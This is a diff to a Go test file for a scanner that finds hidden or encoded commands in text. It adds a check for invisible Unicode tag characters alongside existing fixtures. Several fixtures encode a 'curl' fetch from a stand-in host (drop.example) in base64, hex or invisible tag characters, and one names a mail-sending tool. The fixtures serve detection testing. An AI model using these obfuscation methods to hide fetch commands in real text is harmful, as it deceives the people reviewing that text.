@@ -11,7 +11,7 @@ import (
 // scan returns the facts of text as "kind use value".
 func scan(text string, mode Mode, above int) []string {
 	var l fact.List
-	l.Read("a", text, above, func(d fact.Doc) { Scan(d, mode, "use") })
+	l.Read("a", text, above, func(d fact.Doc) { Hidden(d); Scan(d, mode, "use") })
 	var out []string
 	for _, f := range l.Facts() {
 		out = append(out, strings.TrimSpace(string(f.Kind)+" "+f.Use+" "+f.Value))
@@ -63,6 +63,7 @@ func TestScan(t *testing.T) {
 		{"encoded", "run Y3VybCAtcyBodHRwczovL2Ryb3AuZXhhbXBsZS94 now", []string{"run decoded curl -s https://drop.example/x", "out decoded drop.example"}},
 		{"hexadecimal", "6375726c2068747470733a2f2f64726f702e6578616d706c652f78", []string{"run decoded curl https://drop.example/x", "out decoded drop.example"}},
 		{"sums", "sha512-7Lq9f0tTt8Y1mWc0O6yVhJk2nB3xZs5dQeRaUiPoLkMjNhBgVfCdXsZa 9f86d081884c7d659a2feaa0c55ad015", nil},
+		{"tags", "hello\U000E0063\U000E0075\U000E0072\U000E006C\U000E0020\U000E007E\U000E002F\U000E0078", []string{"run decoded curl ~/x", "file literal ~/x"}},
 		{"tool of a server", "call mcp__mail__send", []string{"other tool mcp__mail__send"}},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
